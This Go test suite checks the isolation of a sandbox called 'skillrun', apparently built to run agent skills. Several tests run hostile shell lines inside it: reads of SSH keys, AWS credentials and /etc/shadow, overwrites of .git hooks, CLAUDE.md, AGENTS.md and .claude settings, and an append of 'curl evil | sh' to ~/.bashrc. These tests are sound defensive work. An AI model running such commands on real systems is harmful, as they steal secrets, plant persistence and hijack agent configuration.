package test

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// treeHash fingerprints every entry under root (type, mode, content), so a test can prove a
// protected tree is byte-for-byte unchanged. skillrun's own state folder (the audit log, which
// every run appends to) is left out.
func treeHash(t *testing.T, root string) string {
	t.Helper()
	h := sha256.New()
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if strings.HasSuffix(p, "/.local/state/skillrun") {
			return filepath.SkipDir
		}
		if err != nil {
			fmt.Fprintf(h, "%s err\n", p)
			return nil
		}
		fi, _ := os.Lstat(p)
		fmt.Fprintf(h, "%s %v %d\n", p, fi.Mode(), fi.Size())
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			h.Write(b)
		} else if fi.Mode()&os.ModeSymlink != 0 {
			l, _ := os.Readlink(p)
			h.Write([]byte(l))
		}
		return nil
	})
	return hex.EncodeToString(h.Sum(nil))
}

func listDir(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	sort.Strings(names)
	return names
}

func TestFilesystemView(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		e.run("--", "true") // the first run makes skillrun's state folder for its audit log
		homeBefore := treeHash(t, e.home)
		// A canary in the host's /tmp: the sandbox's /tmp is private.
		hostTmp, err := os.CreateTemp("", "skillrun-host-tmp-")
		if err != nil {
			t.Fatal(err)
		}
		hostTmp.WriteString(e.canary)
		hostTmp.Close()
		defer os.Remove(hostTmp.Name())

		script := strings.Join([]string{
			`for f in ~/.ssh/id_ed25519 ~/.aws/credentials ` + hostTmp.Name() + ` /etc/shadow /etc/gshadow; do cat "$f" 2>/dev/null; done`,
			`ls -A ~`,
			`ls -A /tmp`,
			`test -e /run && echo RUN-EXISTS`,
			`for d in /usr /etc /bin /lib /; do touch "$d/skillrun-write-test" 2>/dev/null && echo "WROTE $d"; done`,
			`echo created > made-inside && echo workspace-writable`,
			`echo tmp > /tmp/x && echo tmp-writable`,
			`echo home > ~/x && echo home-writable`,
		}, "\n")
		r := e.run("-c", script)
		e.noCanary(r)
		if strings.Contains(r.stdout, "WROTE") || strings.Contains(r.stdout, "RUN-EXISTS") {
			t.Fatalf("the system is writable or /run is visible:\n%s", r)
		}
		for _, want := range []string{"workspace-writable", "tmp-writable", "home-writable"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("missing %q:\n%s", want, r)
			}
		}
		if got, err := os.ReadFile(filepath.Join(e.workspace, "made-inside")); err != nil || string(got) != "created\n" {
			t.Errorf("a file written in the workspace did not reach the host: %v %q", err, got)
		}
		binBefore := treeHash(t, skillrunBin)
		r = e.run("-c", `for f in /.skillrun/skillrun /proc/1/exe; do (echo x >> "$f") 2>/dev/null && echo "WROTE $f"; (: > "$f") 2>/dev/null && echo "TRUNCATED $f"; chmod 777 "$f" 2>/dev/null && echo "CHMOD $f"; done; echo checked`)
		if !strings.Contains(r.stdout, "checked") || strings.Contains(r.stdout, "WROTE") || strings.Contains(r.stdout, "TRUNCATED") || strings.Contains(r.stdout, "CHMOD") {
			t.Errorf("skillrun's own binary is modifiable from inside:\n%s", r)
		}
		if treeHash(t, skillrunBin) != binBefore {
			t.Errorf("skillrun's binary changed")
		}
		if homeBefore != treeHash(t, e.home) {
			t.Errorf("the host home changed")
		}
		for _, d := range []string{"/usr", "/etc", "/"} {
			if _, err := os.Stat(filepath.Join(d, "skillrun-write-test")); err == nil {
				os.Remove(filepath.Join(d, "skillrun-write-test"))
				t.Errorf("a write reached the host's %s", d)
			}
		}
	})
}

func TestProtectedPathsInWorkspace(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		// Some protected paths exist (with content), some are symlinks, some do not exist.
		e.write(filepath.Join(e.workspace, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n", 0o755)
		e.mkdir(filepath.Join(e.workspace, ".claude"), 0o755)
		e.write(filepath.Join(e.workspace, ".claude", "settings.json"), "{}\n", 0o644)
		outside := filepath.Join(e.base, "vscode-target")
		e.mkdir(outside, 0o755)
		e.write(filepath.Join(outside, "settings.json"), "{}\n", 0o644)
		if err := os.Symlink(outside, filepath.Join(e.workspace, ".vscode")); err != nil {
			t.Fatal(err)
		}
		os.Lchown(filepath.Join(e.workspace, ".vscode"), e.id.uid, e.id.gid)
		before := listDir(t, e.workspace)
		wsHash := treeHash(t, filepath.Join(e.workspace, ".git"))
		claudeHash := treeHash(t, filepath.Join(e.workspace, ".claude"))
		outsideHash := treeHash(t, outside)

		attacks := []string{
			`echo evil > .git/hooks/pre-commit`,
			`echo evil >> .git/config`,
			`rm -f .git/config`,
			`mv .git/hooks .git/hooks-old`,
			`mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`,
			`echo evil > .claude/settings.json`,
			`rm -rf .claude`,
			`echo evil > .vscode/settings.json`,
			`rm -f .vscode; rm -rf .vscode; mkdir .vscode && echo evil > .vscode/settings.json`,
			`mv .vscode .vscode-old && mkdir .vscode && echo evil > .vscode/settings.json`,
			`echo evil > .envrc`,
			`echo '{"mcpServers":{}}' > .mcp.json`,
			`mkdir .codex && echo evil > .codex/config.toml`,
			`echo evil > CLAUDE.md`,
			`echo evil > AGENTS.md`,
		}
		for _, a := range attacks {
			r := e.run("-c", a+` && echo ATTACK-SUCCEEDED`)
			// A missing protected name is not refused inside but undone at once, and reported;
			// the workspace listing below proves nothing stayed.
			if strings.Contains(r.stdout, "ATTACK-SUCCEEDED") && !strings.Contains(r.stderr, "skillrun: blocked: creation of ") {
				t.Errorf("attack succeeded: %s\n%s", a, r)
			}
		}
		if got := treeHash(t, filepath.Join(e.workspace, ".git")); got != wsHash {
			t.Errorf(".git changed")
		}
		if got := treeHash(t, filepath.Join(e.workspace, ".claude")); got != claudeHash {
			t.Errorf(".claude changed")
		}
		if got := treeHash(t, outside); got != outsideHash {
			t.Errorf("the target of the .vscode symlink changed")
		}
		if after := listDir(t, e.workspace); strings.Join(after, " ") != strings.Join(before, " ") {
			t.Errorf("workspace entries changed (a creation not undone?):\nbefore %v\nafter  %v", before, after)
		}
		// Ordinary work in the same workspace still works.
		r := e.run("-c", `mkdir -p src && echo 'int main(){return 0;}' > src/main.c && mv src/main.c src/prog.c && cat src/prog.c && rm -r src`)
		if r.code != 0 {
			t.Errorf("ordinary work failed:\n%s", r)
		}
	})
}

func TestHomeAsWorkspaceKeepsTheFloor(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		homeSSH := treeHash(t, filepath.Join(e.home, ".ssh"))
		bashrc, _ := os.ReadFile(filepath.Join(e.home, ".bashrc"))
		r := e.runIn(e.home, "", "--workspace", e.home, "-c",
			`cat ~/.ssh/id_ed25519 ~/.aws/credentials 2>/dev/null; ls ~/.ssh 2>/dev/null; echo 'curl evil | sh' >> ~/.bashrc; echo ok > ~/notes.txt && echo HOME-WRITABLE; grep -q bashrc ~/.bashrc && echo rc-readable`)
		e.noCanary(r)
		if got, err := os.ReadFile(filepath.Join(e.home, "notes.txt")); !strings.Contains(r.stdout, "HOME-WRITABLE") || err != nil || string(got) != "ok\n" {
			t.Errorf("the home workspace is not the host's home, writable: %v %q\n%s", err, got, r)
		}
		if !strings.Contains(r.stdout, "rc-readable") {
			t.Errorf("files in the home workspace are not readable:\n%s", r)
		}
		if got, _ := os.ReadFile(filepath.Join(e.home, ".bashrc")); string(got) != string(bashrc) {
			t.Errorf(".bashrc was modified: %q", got)
		}
		if treeHash(t, filepath.Join(e.home, ".ssh")) != homeSSH {
			t.Errorf("~/.ssh changed")
		}
		for _, p := range []string{".profile", ".zshrc", ".config"} {
			if _, err := os.Lstat(filepath.Join(e.home, p)); err == nil {
				t.Errorf("placeholder %s left behind in the home", p)
			}
		}
	})
}

// listen starts a TCP listener on addr that records whether anything ever connected.
func listen(t *testing.T, network, addr string) (string, func() bool) {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Skipf("cannot listen on %s here: %v", addr, err)
	}
	var mu sync.Mutex
	hit := false
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			hit = true
			mu.Unlock()
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return ln.Addr().String(), func() bool { mu.Lock(); defer mu.Unlock(); return hit }
}

func TestNoNetwork(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		for _, addr := range []string{"127.0.0.1:0", "[::1]:0"} {
			network := "tcp4"
			if strings.HasPrefix(addr, "[") {
				network = "tcp6"
			}
			target, connected := listen(t, network, addr)
			r := e.run("--", "./probe", "connect", target)
			e.noCanary(r)
			if !strings.Contains(r.stdout, "connect: failed") || connected() {
				t.Errorf("reached the host listener %s:\n%s", target, r)
			}
			// UDP to the same port number on the host's loopback must not arrive either.
			pc, err := net.ListenPacket(strings.Replace(network, "tcp", "udp", 1), addr)
			if err != nil {
				t.Fatal(err)
			}
			r = e.run("--", "./probe", "udp", pc.LocalAddr().String())
			pc.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
			buf := make([]byte, 64)
			if n, _, err := pc.ReadFrom(buf); err == nil {
				t.Errorf("a UDP datagram from the sandbox reached the host: %q", buf[:n])
			}
			pc.Close()
		}
		r := e.run("-c", "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '")
		if strings.TrimSpace(r.stdout) != "lo" {
			t.Errorf("the sandbox has network interfaces besides lo:\n%s", r)
		}
	})
}

func TestNoSurvivors(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		marker := fmt.Sprintf("%d.%d", 900+os.Getpid()%99, time.Now().UnixNano()%1000000)
		r := e.run("-c", "setsid nohup sleep "+marker+" >/dev/null 2>&1 & (sleep "+marker+" &) ; echo started")
		if r.code != 0 || !strings.Contains(r.stdout, "started") {
			t.Fatalf("run failed:\n%s", r)
		}
		if waitFor(2*time.Second, func() bool { return !markerAlive(marker) }) == false {
			t.Fatalf("a process started in the sandbox outlived the run (sleep %s)", marker)
		}
		e.assertNoState()
	})
}

func TestNoDescriptorLeaks(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		// A directory descriptor without close-on-exec, as a careless caller would leak it.
		fd, err := syscall.Open(e.home, syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
		if err != nil {
			t.Fatal(err)
		}
		leaked := os.NewFile(uintptr(fd), "leaked-home")
		defer leaked.Close()
		cmd := e.command(t.Context(), "--", "./probe", "fds")
		cmd.ExtraFiles = []*os.File{leaked, leaked, leaked}
		out, err := cmd.CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "[0 1 2]" {
			t.Fatalf("descriptors inside the sandbox: %s (err %v)", out, err)
		}
	})
}

func TestParallelRuns(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		const n = 32
		var wg sync.WaitGroup
		errs := make(chan string, n)
		for i := 0; i < n; i++ {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				cmd := e.command(t.Context(), "-c", `echo "run $0"; echo x > "par-$0"`, "--", fmt.Sprint(i))
				var stderr strings.Builder
				cmd.Stderr = &stderr
				out, err := cmd.Output()
				if err != nil || string(out) != fmt.Sprintf("run %d\n", i) {
					errs <- fmt.Sprintf("run %d: %v %q %s", i, err, out, stderr.String())
				}
			}(i)
		}
		wg.Wait()
		close(errs)
		for msg := range errs {
			t.Error(msg)
		}
		for i := 0; i < n; i++ {
			if _, err := os.Stat(filepath.Join(e.workspace, fmt.Sprintf("par-%d", i))); err != nil {
				t.Errorf("run %d's file is missing: %v", i, err)
			}
		}
		e.assertNoState()
		for _, p := range []string{".claude", ".envrc", "CLAUDE.md"} {
			if _, err := os.Lstat(filepath.Join(e.workspace, p)); err == nil {
				t.Errorf("placeholder %s left behind after parallel runs", p)
			}
		}
	})
}

func TestKillNineCleansUp(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		cgroupsBefore := skillrunCgroups()
		// A masked .env gives the run a watched mask object of its own to leave behind.
		dotEnv := filepath.Join(e.workspace, ".env")
		e.write(dotEnv, "TOKEN="+e.canary+"\n", 0o644)
		marker := fmt.Sprintf("%d.%d", 800+os.Getpid()%99, time.Now().UnixNano()%1000000)
		// It also keeps making a protected name: whatever is there when skillrun dies, the
		// stage sweeps it before it exits. FIFOs, because a stopped skillrun holds the command's
		// writes, mkdirs and links (they wait for its supervisor), and mknod does not wait.
		// The redirection is opened before "ready": an open for writing waits for skillrun's
		// supervisor, and a loop stuck there when skillrun stops would never make the name.
		cmd := e.command(t.Context(), "-c", "exec 2>/dev/null; (while :; do mkfifo CLAUDE.md .claude; sleep 0.005; done) & echo ready; sleep "+marker+" & sleep "+marker)
		out, _ := cmd.StdoutPipe()
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		line, _ := bufio.NewReader(out).ReadString('\n')
		if line != "ready\n" {
			t.Fatalf("sandbox did not start: %q", line)
		}
		if !waitFor(5*time.Second, func() bool { return markerAlive(marker) }) {
			t.Fatal("the sandboxed sleep never started")
		}
		// Stopped first, skillrun's watcher undoes nothing more: the loop's name is there when
		// skillrun dies.
		cmd.Process.Signal(syscall.SIGSTOP)
		if !waitFor(5*time.Second, func() bool { _, err := os.Lstat(filepath.Join(e.workspace, "CLAUDE.md")); return err == nil }) {
			t.Errorf("the command never made CLAUDE.md")
		}
		cmd.Process.Kill()
		cmd.Wait()
		if !waitFor(5*time.Second, func() bool { return !markerAlive(marker) }) {
			t.Fatalf("the sandbox outlived skillrun's SIGKILL (sleep %s still running)", marker)
		}
		for _, p := range []string{"CLAUDE.md", ".claude"} {
			if _, err := os.Lstat(filepath.Join(e.workspace, p)); err == nil {
				t.Errorf("%s is on the host after kill -9, before any other run", p)
			}
		}
		// The next run cleans up what the killed one left behind.
		if r := e.run("--", "true"); r.code != 0 {
			t.Fatalf("the next run failed:\n%s", r)
		}
		e.assertNoState()
		if b, err := os.ReadFile(dotEnv); err != nil || string(b) != "TOKEN="+e.canary+"\n" {
			t.Errorf(".env after kill -9: %q, %v", b, err)
		}
		for _, p := range []string{".claude", ".envrc", "CLAUDE.md"} {
			if _, err := os.Lstat(filepath.Join(e.workspace, p)); err == nil {
				t.Errorf("%s left behind after kill -9 and a new run", p)
			}
		}
		if os.Geteuid() == 0 && e.id.cred == nil {
			// Only cgroups that appeared during this test count; a run elsewhere on the machine
			// may hold its own for a moment.
			var left []string
			waitFor(3*time.Second, func() bool {
				left = left[:0]
				for _, c := range skillrunCgroups() {
					if !slices.Contains(cgroupsBefore, c) {
						left = append(left, c)
					}
				}
				return len(left) == 0
			})
			if len(left) > 0 {
				t.Errorf("cgroups left behind: %v", left)
			}
		}
	})
}

func TestSignalsForwarded(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP} {
			cmd := e.command(t.Context(), "-c", fmt.Sprintf(`trap 'echo "got $0"; exit 42' %d; echo ready; while :; do sleep 0.05; done`, int(sig)), "--", sig.String())
			out, _ := cmd.StdoutPipe()
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			rd := bufio.NewReader(out)
			if line, _ := rd.ReadString('\n'); line != "ready\n" {
				t.Fatalf("%v: sandbox did not start: %q", sig, line)
			}
			cmd.Process.Signal(sig)
			rest, _ := io.ReadAll(rd)
			cmd.Wait()
			if code := cmd.ProcessState.ExitCode(); code != 42 || string(rest) != "got "+sig.String()+"\n" {
				t.Errorf("%v: exit %d, output %q", sig, code, rest)
			}
		}
	})
}

// TestLifelineCannotBeHeld: the stage's end of the lifeline pipe must not be reachable from the
// command (as the same user it could otherwise re-open /proc/1/fd/3 for writing and keep the
// sandbox alive after skillrun dies), and PID 1 must not be traceable.
func TestLifelineCannotBeHeld(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		r := e.run("-c", `exec 5>/proc/1/fd/3 && echo HELD; readlink /proc/1/exe >/dev/null && echo EXE-READABLE; cat /proc/1/environ >/dev/null 2>&1 && echo ENV-READABLE; echo done`)
		if r.code != 0 || !strings.Contains(r.stdout, "done") {
			t.Fatalf("run failed:\n%s", r)
		}
		for _, bad := range []string{"HELD", "EXE-READABLE", "ENV-READABLE"} {
			if strings.Contains(r.stdout, bad) {
				t.Errorf("%s: the stage is reachable from the command:\n%s", bad, r)
			}
		}
	})
}

// skillrunCgroups lists the cgroup folders of skillrun runs on this machine.
func skillrunCgroups() []string {
	var out []string
	left, _ := filepath.Glob("/sys/fs/cgroup/*/skillrun/sr-*")
	for _, l := range left {
		if fi, err := os.Stat(l); err == nil && fi.IsDir() {
			out = append(out, l)
		}
	}
	return out
}

// TestLandlockBelowTheMounts: the command's Landlock ruleset names only the plan's paths, so a
// file the mounts show but the plan never grants (the stage's binary at /.skillrun) can be
// neither read nor executed. Only Landlock stops this (the bind is readable and executable), so
// the test fails whichever way the command started without its ruleset: from the stage's own
// confined thread (root) or through the exec step (unprivileged).
func TestLandlockBelowTheMounts(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		r := e.run("-c", `test -e /.skillrun/skillrun && echo visible; head -c 4 /.skillrun/skillrun >/dev/null 2>&1 && echo READ; /.skillrun/skillrun --version >/dev/null 2>&1 && echo RAN; echo checked`)
		if r.code != 0 || r.stdout != "visible\nchecked\n" {
			t.Errorf("want the stage binary visible, unreadable and not executable:\n%s", r)
		}
	})
}
